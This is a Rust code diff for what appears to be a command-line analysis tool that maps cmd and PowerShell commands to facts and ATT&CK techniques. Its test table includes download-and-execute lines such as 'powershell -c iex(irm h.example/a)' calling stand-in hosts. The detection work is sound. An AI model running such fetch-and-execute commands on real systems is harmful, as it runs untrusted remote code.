@@ -100,6 +100,18 @@ fn programs() -> Programs {
         ..FormSource::default()
     };
     add(&["reg"], style::SLASH, FormSource::default(), vec![sam]);
+    let copy = FormSource {
+        arguments: vec![value(Role::Source), value(Role::Destination)],
+        ..FormSource::default()
+    };
+    add(&["copy"], style::SLASH, copy, vec![]);
+    let irm = FormSource {
+        technique: "T1105".into(),
+        options: vec![option("uri", Role::Address), option("outfile", Role::Output)],
+        arguments: vec![value(Role::Address)],
+        ..FormSource::default()
+    };
+    add(&["irm"], style::DASH | style::NEXT | style::ABBREVIATED | style::CMDLET, irm, vec![]);
     builder.finish()
 }
 
@@ -216,6 +228,33 @@ fn facts_follow_from_the_entry() {
         expected.sort_unstable();
         sorted.sort_unstable();
         assert_eq!(sorted, expected, "{line}");
+    }
+}
+
+/// What a shell does itself belongs to it: its built-in commands, its redirections and its cmdlets.
+#[test]
+fn facts_of_shells() {
+    for (line, expected) in [
+        (r"cmd /c copy /y C:\a C:\b", r"Reads C:\a; Writes C:\b; Technique T1059.003"),
+        (r#"cmd /c "cd /d C:\x & copy a b & ver > c""#, r"Reads C:\x\a; Writes C:\x\b; Writes C:\x\c; Technique T1059.003"),
+        (r#"cmd /c copy "C:\x y\" C:\b"#, r"Reads C:\x y; Writes C:\b; Technique T1059.003"),
+        ("cmd /c ver > nul", "Technique T1059.003"),
+        ("powershell -c iex(irm h.example/a)", "Address http://h.example/a; Host h.example; Technique T1105; Code iex(irm h.example/a); Language powershell; Technique T1059.001"),
+        (r"powershell $x=IRM('https://h/a') -o C:\b;calc", r"Address https://h/a; Host h; Writes C:\b; Technique T1105; Code $x=IRM('https://h/a') -o C:\b;calc; Language powershell; Technique T1059.001"),
+        ("powershell -c 'irm h/a'", "Code irm h/a; Language powershell; Technique T1059.001"),
+        ("powershell -c copy a b", "Code copy a b; Language powershell; Technique T1059.001"),
+        (r"powershell -file C:\a.ps1", r"Runs C:\a.ps1; Script C:\a.ps1; Technique T1059.001"),
+    ] {
+        let (command, arguments) = line.split_once(' ').unwrap();
+        let exec =
+            Exec { command: Some(command.into()), arguments: Some(arguments.into()), working_directory: None };
+        let first = command::read(&exec, &programs(), &Work::unlimited()).list.swap_remove(0);
+        let found = first.facts.list.iter().skip(1).map(|fact| format!("{:?} {}", fact.kind, fact.value));
+        let mut found: Vec<String> = found.collect();
+        found.sort_unstable();
+        let mut expected: Vec<&str> = expected.split("; ").collect();
+        expected.sort_unstable();
+        assert_eq!(found, expected, "{line}");
     }
 }
 
